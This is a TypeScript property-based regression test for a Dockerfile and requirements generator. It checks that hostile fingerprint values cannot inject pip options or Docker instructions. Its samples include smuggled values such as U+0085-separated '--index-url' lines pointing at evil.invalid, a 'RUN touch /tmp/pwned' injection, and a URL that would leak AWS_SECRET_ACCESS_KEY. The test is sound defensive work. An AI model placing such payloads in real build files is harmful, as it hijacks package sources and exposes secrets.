// Property: whatever a fingerprint holds, the generated requirements file reads back — with pip's
// own parser (pip/_internal/req/req_file.py, a real python3 run once for all samples) — as the
// clean fixture's lines plus, at most, the hostile packages written literally; and the Dockerfile
// parses (dockerfile-ast, the parser of the Docker language server) into the same instructions as
// the clean fixture's. Before src/core/escape.ts, a label holding U+0085 put a real
// `--index-url=https://evil…` line into envdiff-requirements.txt (pip splits with str.splitlines()).
// The fingerprint is the REAL linux-cpu-debian-12 fixture with hostile values put in (SYNTHETIC edits).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { generateDockerfile } from '../../src/dockerfile/generate.js';
import type { Fingerprint } from '../../src/facets/index.js';
import { runProcess } from '../../src/core/run-process.js';
import { hostileString, lineBreaking, RUNS } from './arbitraries.js';

const FIXTURE = fileURLToPath(new URL('../../fixtures/dockerfile/linux-cpu-debian-12/fingerprint.json', import.meta.url));
const PIP_READER = fileURLToPath(new URL('./pip-read-requirements.py', import.meta.url));
const load = () => JSON.parse(readFileSync(FIXTURE, 'utf8')) as Fingerprint;

interface PipLine {
  requirement: string | null;
  opts: Record<string, unknown>;
}

async function pipRead(files: string[]): Promise<PipLine[][]> {
  const r = await runProcess('python3', [PIP_READER, ...files], { timeoutMs: 120_000 });
  if (r.exitCode !== 0) throw new Error(`pip's parser failed: ${r.stderr.slice(-2000)}`);
  return JSON.parse(r.stdout) as PipLine[][];
}

function requirementsOf(fp: Fingerprint): string {
  const file = generateDockerfile(fp).files.find((f) => f.kind === 'requirements');
  if (!file) throw new Error('no requirements file');
  return file.content;
}

function steps(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile)
    .getInstructions()
    .map((i) => i.getKeyword());
}

interface Sample {
  label: string;
  version: string;
  url: string;
  pretty: string;
}

function hostileFingerprint(s: Sample): Fingerprint {
  const fp = load();
  fp.label = s.label;
  fp.facets.os.distro!.prettyName = s.pretty;
  fp.facets.python.packages!.push(
    { name: 'hostile-version', version: s.version, installer: 'pip' },
    { name: 'hostile-url', version: '1.0', installer: 'pip', directUrl: { url: s.url } },
  );
  return fp;
}

describe('hostile fingerprint values through the requirements file and the Dockerfile', () => {
  const work = mkdtempSync(join(tmpdir(), 'envdiff-hostile-req-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  const clean = load();
  const cleanSteps = steps(generateDockerfile(clean).dockerfile);

  it('pip reads exactly the clean lines plus the hostile packages written literally; Docker reads the same instructions', async () => {
    const samples = fc.sample(
      fc.record({
        label: fc.oneof(lineBreaking, hostileString),
        version: fc.oneof(lineBreaking, hostileString, fc.constant('1.0')),
        url: fc.oneof(
          lineBreaking.map((s) => `https://files.invalid/x.whl${s}`),
          hostileString.map((s) => `https://files.invalid/${s}`),
        ),
        pretty: fc.oneof(lineBreaking, hostileString),
      }),
      RUNS.numRuns,
    );
    // The known U+0085 case from the issue is always among them.
    samples.push({
      label: 'dev\x85--index-url=https://evil.invalid/simple',
      version: '1.0\x85--extra-index-url https://evil.invalid/',
      url: 'https://files.invalid/x.whl\x85-i https://evil.invalid/',
      pretty: 'Debian\x85RUN touch /tmp/pwned',
    });
    // pip expands ${VAR} from the building machine's environment; a lone surrogate is written as U+FFFD.
    samples.push({ label: 'dev', version: '1.0', url: 'https://evil.invalid/${AWS_SECRET_ACCESS_KEY}/x.whl', pretty: 'Debian' });
    samples.push({ label: 'dev', version: '1.0', url: 'https://files.invalid/\ud800x.whl', pretty: 'Debian' });
    const files = [join(work, 'clean.txt')];
    writeFileSync(files[0]!, requirementsOf(clean));
    const dockerfiles: string[] = [];
    samples.forEach((s, i) => {
      const fp = hostileFingerprint(s);
      const gen = generateDockerfile(fp);
      const path = join(work, `hostile-${i}.txt`);
      writeFileSync(path, gen.files.find((f) => f.kind === 'requirements')!.content, 'utf8');
      files.push(path);
      dockerfiles.push(gen.dockerfile);
    });
    const [cleanLines, ...hostileLines] = await pipRead(files);
    const cleanReqs = cleanLines!.filter((l) => l.requirement !== null).map((l) => l.requirement);
    const cleanOpts = cleanLines!.filter((l) => l.requirement === null);
    hostileLines.forEach((lines, i) => {
      const s = samples[i]!;
      const allowed = new Set([...cleanReqs, `hostile-version==${s.version}`, `hostile-url @ ${s.url}`, 'hostile-url==1.0']);
      const reqs = lines.filter((l) => l.requirement !== null);
      // No option line besides the clean file's, and no option on any requirement line.
      expect(
        lines.filter((l) => l.requirement === null),
        JSON.stringify(s),
      ).toEqual(cleanOpts);
      for (const l of reqs) {
        expect(allowed.has(l.requirement), `${JSON.stringify(l.requirement)} from ${JSON.stringify(s)}`).toBe(true);
        expect(l.opts, JSON.stringify(s)).toEqual({});
      }
      for (const r of cleanReqs) expect(reqs.some((l) => l.requirement === r)).toBe(true);
      expect(steps(dockerfiles[i]!), JSON.stringify(s)).toEqual(cleanSteps);
    });
  });
});
